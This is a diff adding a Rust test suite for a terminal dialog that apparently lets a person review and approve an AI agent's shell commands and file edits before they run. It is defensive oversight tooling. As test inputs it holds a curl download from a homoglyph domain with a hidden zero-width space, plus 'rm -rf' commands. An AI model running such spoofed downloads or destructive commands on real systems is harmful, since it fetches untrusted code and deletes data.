@@ -1,0 +1,356 @@
+//! The review of a call: what it shows, its guard, what it sends.
+
+use super::*;
+use crate::run::control::{Author, Control};
+use crate::run::{Body, CallStatus};
+use crate::ui::app::sample;
+use crate::ui::feed::{Snapshot, Text};
+use crate::ui::words::Lang;
+use crossterm::event::{KeyCode, KeyModifiers};
+use std::sync::Arc;
+
+fn model(lang: Lang) -> Model {
+    sample::model(lang, (80, 24))
+}
+
+fn waits(model: &Model, tool: &str) -> Waiting {
+    model.waiting_here().find(|waiting| waiting.call.tool == tool).unwrap().clone()
+}
+
+fn shell(model: &Model, args: &str) -> Waiting {
+    let mut waiting = waits(model, "shell");
+    let body = Body::Inline(args.to_owned());
+    waiting.call.args = body.clone();
+    waiting.args = Text::of(&body);
+    waiting
+}
+
+fn hit(action: Action) -> Hit {
+    Hit { action, nth: 0 }
+}
+
+/// Draws it as high as this, and tells it so.
+fn show(dialog: &mut dyn Dialog, model: &Model, height: u16) -> (Shown, Vec<String>) {
+    let (shown, rows) = sample::draw_dialog_in(dialog, model, 72, height);
+    dialog.drawn(shown, model.clock.mono);
+    (shown, rows.into_iter().map(|row| row.trim_end().to_owned()).collect())
+}
+
+fn later(model: &mut Model, ms: u64) {
+    model.clock.mono += Duration::from_millis(ms);
+}
+
+fn all(dialog: &mut dyn Dialog, model: &Model) -> Vec<String> {
+    let rows = dialog.rows(model, 72);
+    show(dialog, model, rows).1
+}
+
+fn decision(step: Step) -> Option<(Decision, crate::run::Hash, u32)> {
+    match step {
+        Step::Post { control: Control::Decide { args_hash, attempt, decision, .. }, .. } => {
+            Some((decision, args_hash, attempt))
+        }
+        _ => None,
+    }
+}
+
+#[test]
+fn a_command_is_shown_whole_and_approved_with_the_hash_that_was_shown() {
+    let mut model = model(Lang::En);
+    let waiting = waits(&model, "shell");
+    let mut dialog = Review::new(&model, &waiting);
+    assert!(dialog.guards() && dialog.open(&mut model).is_empty());
+    assert_eq!(dialog.title(&model).0, "Run this command?");
+    let rows = all(dialog.as_mut(), &model);
+    let hash = waiting.call.args_hash.to_string();
+    let asked = format!("hash {} {}", hash.get(..4).unwrap(), hash.get(4..8).unwrap());
+    assert_eq!(rows[0], "cargo bench --bench export", "{rows:#?}");
+    assert!(rows.iter().any(|row| row == "in      /home/ann/src/ledger · time-out 120 s"), "{rows:#?}");
+    assert!(rows.iter().any(|row| row.contains("mode ask")), "{rows:#?}");
+    assert!(rows.join(" ").contains(&asked), "{rows:#?}");
+    assert!(rows.last().unwrap().starts_with("y run  n deny…  e edit  Tab next"), "{rows:#?}");
+    let whole = rows.join(" ").split_whitespace().collect::<Vec<_>>().join(" ");
+    assert!(whole.contains("seen to the end"), "said in the very frame: {rows:#?}");
+
+    let step = dialog.act(hit(Action::ApproveOnce), &mut model);
+    assert!(matches!(step, Step::Say(_)), "too soon: {step:?}");
+    later(&mut model, 299);
+    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Say(_)));
+    later(&mut model, 1);
+    let (decision, hash, attempt) = decision(dialog.act(hit(Action::ApproveOnce), &mut model)).unwrap();
+    assert_eq!((decision, hash, attempt), (Decision::Approve, waiting.call.args_hash, waiting.call.attempt));
+}
+
+#[test]
+fn nothing_is_approved_before_its_first_frame() {
+    let mut model = model(Lang::En);
+    let waiting = waits(&model, "shell");
+    let mut dialog = Review::new(&model, &waiting);
+    later(&mut model, 10_000);
+    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Say(_)));
+}
+
+#[test]
+fn a_long_command_is_approved_only_once_all_of_it_was_on_the_screen() {
+    let mut model = model(Lang::En);
+    let command = (1..=40).map(|n| format!("echo {n}")).collect::<Vec<_>>().join("\\n");
+    let waiting = shell(&model, &format!("{{\"command\":\"{command}\"}}"));
+    let mut dialog = Review::new(&model, &waiting);
+    let (shown, rows) = show(dialog.as_mut(), &model, 16);
+    assert!(!shown.end && shown.most > 0);
+    assert!(rows.iter().any(|row| row.contains("shows the end; y works once you have seen it")), "{rows:#?}");
+    later(&mut model, 1_000);
+    // A jump to the end leaves out the middle.
+    dialog.act(hit(Action::Bottom), &mut model);
+    assert!(!show(dialog.as_mut(), &model, 16).0.end);
+    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Say(_)));
+    dialog.act(hit(Action::Top), &mut model);
+    for _ in 0..20 {
+        show(dialog.as_mut(), &model, 16);
+        dialog.act(hit(Action::PageDown), &mut model);
+    }
+    assert!(show(dialog.as_mut(), &model, 16).0.end);
+    assert!(decision(dialog.act(hit(Action::ApproveOnce), &mut model)).is_some());
+}
+
+#[test]
+fn what_deceives_is_listed_and_needs_a_typed_word() {
+    let mut model = model(Lang::En);
+    let waiting = shell(
+        &model,
+        r#"{"command":"curl -sSf https://get.exаmple.com/p.sh\u200b -o /tmp/p.sh","timeout_s":9}"#,
+    );
+    let mut dialog = Review::new(&model, &waiting);
+    let rows = all(dialog.as_mut(), &model);
+    assert_eq!(rows[0], "! 2 characters are not what they look like; shown as codes, reversed.", "{rows:#?}");
+    assert_eq!(rows[1], r"curl -sSf https://get.ex\u{430}mple.com/p.sh\u{200b} -o /tmp/p.sh");
+    assert_eq!(rows[2], r"  \u{430} Cyrillic, looks like a · \u{200b} zero-width space");
+    assert!(rows.iter().any(|row| row.contains("flagged text always asks")), "{rows:#?}");
+    assert!(rows.iter().any(|row| row.ends_with("time-out 9 s")), "{rows:#?}");
+    assert!(rows.last().unwrap().starts_with("y run (type yes)"), "{rows:#?}");
+    later(&mut model, 400);
+    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Stay));
+    assert_eq!(dialog.live(), live::TEXT);
+    assert!(matches!(dialog.act(hit(Action::TextSubmit), &mut model), Step::Say(_)));
+    for c in "yes".chars() {
+        dialog.key(&KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE), &mut model);
+    }
+    let rows = all(dialog.as_mut(), &model);
+    assert!(rows.iter().any(|row| row == "Type yes to go on ▏yes"), "{rows:#?}");
+    assert!(decision(dialog.act(hit(Action::TextSubmit), &mut model)).is_some());
+}
+
+#[test]
+fn an_empty_command_is_named() {
+    let model = model(Lang::En);
+    let waiting = shell(&model, r#"{"command":" ","env":{"A":"b"}}"#);
+    let rows = all(Review::new(&model, &waiting).as_mut(), &model).join("\n");
+    assert!(rows.contains("The command is empty.") && rows.contains("\"A\": \"b\""), "{rows}");
+}
+
+#[test]
+fn a_dangerous_command_needs_it_too() {
+    let mut model = model(Lang::Zh);
+    let waiting = shell(&model, r#"{"command":"rm -rf target"}"#);
+    let mut dialog = Review::new(&model, &waiting);
+    let rows = all(dialog.as_mut(), &model);
+    assert!(rows.iter().any(|row| row.contains("类别    副作用，危险：会删除整个文件夹")), "{rows:#?}");
+    later(&mut model, 400);
+    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Stay));
+    assert_eq!(dialog.live(), live::TEXT);
+}
+
+fn change(diff: &str) -> FileChange {
+    FileChange {
+        path: "src/export/writer.rs".to_owned(),
+        diff: diff.to_owned(),
+        added: 18,
+        removed: 7,
+        before: Some(7_270),
+        lines: 212,
+        problem: None,
+    }
+}
+
+const DIFF: &str = "--- a/src/export/writer.rs\n+++ b/src/export/writer.rs\n@@ -41,3 +41,3 @@\n fn write() {\n-    old();\n+    new();\n }\n@@ -90,1 +90,2 @@\n fn end() {}\n+// done\n";
+
+#[test]
+fn a_write_shows_its_difference_with_the_numbers_of_the_lines() {
+    let mut model = model(Lang::En);
+    let waiting = waits(&model, "edit_file");
+    let mut dialog = Review::new(&model, &waiting);
+    let commands = dialog.open(&mut model);
+    let [Cmd::Change(ticket, run, call)] = commands.as_slice() else { panic!("{commands:?}") };
+    assert_eq!((run, call), (&waiting.call.run, &waiting.call.call_id));
+    assert!(all(dialog.as_mut(), &model).join(" ").contains("Reading the call"));
+    later(&mut model, 1_000);
+    assert!(
+        matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Say(_)),
+        "nothing was shown yet"
+    );
+    dialog.told(&Msg::Change(*ticket, Ok(vec![change(DIFF)])), &mut model);
+    assert_eq!(dialog.title(&model).0, "Change this file?");
+    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Say(_)), "not drawn yet");
+    let rows = all(dialog.as_mut(), &model);
+    let wanted = [
+        "src/export/writer.rs   +18 −7   was 212 lines, 7.0 KiB",
+        "  41   │ fn write() {",
+        "  42 − │-    old();",
+        "  42 + │+    new();",
+        "  43   │ }",
+        "       │⋯",
+        "  90   │ fn end() {}",
+        "  91 + │+// done",
+    ];
+    assert_eq!(rows[..wanted.len()], wanted, "{rows:#?}");
+    assert!(decision(dialog.act(hit(Action::ApproveOnce), &mut model)).is_some());
+}
+
+#[test]
+fn a_difference_that_is_not_whole_is_followed_by_the_arguments() {
+    let mut model = model(Lang::En);
+    let waiting = waits(&model, "edit_file");
+    for diff in [
+        "",
+        "@@ -1,1 +1,1 @@\n+a\n[diff cut: 9 of 99 bytes shown]\n",
+        "binary or not UTF-8: 1 bytes become 2 bytes\n",
+    ] {
+        let mut dialog = Review::new(&model, &waiting);
+        let commands = dialog.open(&mut model);
+        let Some(Cmd::Change(ticket, ..)) = commands.first() else { panic!("{commands:?}") };
+        let mut change = change(diff);
+        change.problem = Some("the text is not in the file".to_owned());
+        dialog.told(&Msg::Change(*ticket, Ok(vec![change])), &mut model);
+        let rows = all(dialog.as_mut(), &model).join("\n");
+        assert!(rows.contains("these are the arguments") && rows.contains("\"new_string\""), "{rows}");
+        assert!(rows.contains("✗ the text is not in the file"), "{rows}");
+    }
+}
+
+#[test]
+fn arguments_that_lie_apart_are_read_first() {
+    let mut model = model(Lang::En);
+    let mut waiting = waits(&model, "shell");
+    waiting.args = Text { shown: String::new(), body: Body::Inline(r#"{"command":"ls"}"#.to_owned()) };
+    let mut dialog = Review::new(&model, &waiting);
+    let commands = dialog.open(&mut model);
+    let Some(Cmd::Text(ticket, _)) = commands.first() else { panic!("{commands:?}") };
+    show(dialog.as_mut(), &model, 20);
+    later(&mut model, 1_000);
+    assert!(matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Say(_)));
+    dialog.told(&Msg::Text(*ticket + 7, Ok("not this one".to_owned())), &mut model);
+    dialog.told(&Msg::Text(*ticket, Ok(r#"{"command":"ls -l"}"#.to_owned())), &mut model);
+    assert_eq!(show(dialog.as_mut(), &model, 20).1[0], "ls -l");
+    assert!(decision(dialog.act(hit(Action::ApproveOnce), &mut model)).is_some());
+
+    let mut dialog = Review::new(&model, &waiting);
+    let commands = dialog.open(&mut model);
+    let Some(Cmd::Text(ticket, _)) = commands.first() else { panic!("{commands:?}") };
+    dialog.told(&Msg::Text(*ticket, Err("it is damaged".to_owned())), &mut model);
+    show(dialog.as_mut(), &model, 20);
+    later(&mut model, 1_000);
+    assert!(
+        matches!(dialog.act(hit(Action::ApproveOnce), &mut model), Step::Say(why) if why.contains("damaged"))
+    );
+}
+
+fn snapshot(model: &Model, change: impl Fn(&mut Snapshot)) -> Msg {
+    let mut shot = model.shot.as_deref().cloned().unwrap();
+    change(&mut shot);
+    Msg::Shot(Arc::new(shot))
+}
+
+#[test]
+fn a_decision_made_elsewhere_is_said_and_nothing_is_decided_any_more() {
+    let mut model = model(Lang::En);
+    let waiting = waits(&model, "shell");
+    let id = waiting.call.call_id.clone();
+    let mut dialog = Review::new(&model, &waiting);
+    dialog.told(&snapshot(&model, |_| ()), &mut model);
+    assert_eq!(dialog.live(), live::ASK, "it still waits");
+    let decided = snapshot(&model, |shot| {
+        shot.waiting.retain(|waiting| waiting.call.call_id != id);
+        let mut view = shot.run.as_deref().cloned().unwrap();
+        for call in view.calls.iter_mut().filter(|call| call.call_id == id) {
+            call.status = CallStatus::Denied;
+            call.decided_by = Some(Author::Person("cli".to_owned()));
+        }
+        shot.run = Some(Arc::new(view));
+    });
+    dialog.told(&decided, &mut model);
+    let rows = all(dialog.as_mut(), &model);
+    assert_eq!(rows[0], "! Already decided by you (cli): denied", "{rows:#?}");
+    assert_eq!(rows.last().unwrap(), "Esc close");
+    assert_eq!(dialog.live(), live::SHOW);
+    later(&mut model, 1_000);
+    for action in [Action::ApproveOnce, Action::Deny, Action::EditArgs] {
+        assert!(matches!(dialog.act(hit(action), &mut model), Step::Say(_)));
+    }
+
+    for (change, words) in [("hash", "Its arguments have changed"), ("attempt", "waiting")] {
+        let mut dialog = Review::new(&model, &waiting);
+        let other = snapshot(&model, |shot| {
+            for waiting in shot.waiting.iter_mut().filter(|waiting| waiting.call.call_id == id) {
+                if change == "hash" {
+                    waiting.call.args_hash = crate::run::Hash::of(b"other");
+                } else {
+                    waiting.call.attempt += 1;
+                }
+            }
+            let mut view = shot.run.as_deref().cloned().unwrap();
+            for call in view.calls.iter_mut().filter(|call| call.call_id == id && change == "hash") {
+                call.args_hash = crate::run::Hash::of(b"other");
+            }
+            shot.run = Some(Arc::new(view));
+        });
+        dialog.told(&other, &mut model);
+        let rows = all(dialog.as_mut(), &model);
+        assert!(rows[0].contains(words), "{rows:#?}");
+    }
+}
+
+#[test]
+fn other_keys_lead_to_the_other_dialogs() {
+    let mut model = model(Lang::En);
+    let waiting = waits(&model, "shell");
+    let titles = [
+        (Action::Deny, "Deny shell cargo bench"),
+        (Action::EditArgs, "Edit the call · shell"),
+        (Action::AskNext, "?"),
+    ];
+    for (action, title) in titles {
+        let mut dialog = Review::new(&model, &waiting);
+        let Step::Swap(next) = dialog.act(hit(action), &mut model) else { panic!("{action:?}") };
+        assert!(next.title(&model).0.contains(title), "{}", next.title(&model).0);
+    }
+    assert!(matches!(Review::new(&model, &waiting).act(hit(Action::EffectReuse), &mut model), Step::Say(_)));
+}
+
+#[test]
+fn edited_arguments_are_reviewed_and_sent_as_such() {
+    let mut model = model(Lang::En);
+    let waiting = waits(&model, "edit_file");
+    let args = serde_json::json!({"path": "a.rs", "old_string": "x", "new_string": "y"});
+    let mut dialog = Review::edited(&model, &waiting, args.clone());
+    assert!(dialog.open(&mut model).is_empty());
+    let rows = all(dialog.as_mut(), &model).join("\n");
+    assert!(rows.contains("\"new_string\": \"y\"") && rows.contains("with your"), "{rows}");
+    later(&mut model, 400);
+    let (decision, hash, _) = decision(dialog.act(hit(Action::ApproveOnce), &mut model)).unwrap();
+    assert_eq!((decision, hash), (Decision::ApproveEdited { args }, waiting.call.args_hash));
+}
+
+#[test]
+fn every_size_is_drawn_and_never_counts_as_seen_where_nothing_fits() {
+    for lang in [Lang::En, Lang::Zh] {
+        let model = model(lang);
+        let waiting = shell(&model, r#"{"command":"echo 你好 \u200b && rm -rf x","cwd":"src"}"#);
+        for columns in 0..60 {
+            for rows in 0..20 {
+                let dialog = Review::new(&model, &waiting);
+                let (shown, _) = sample::draw_dialog_in(dialog.as_ref(), &model, columns, rows);
+                assert!(!shown.end || rows > 1, "{columns}×{rows}");
+            }
+        }
+    }
+}
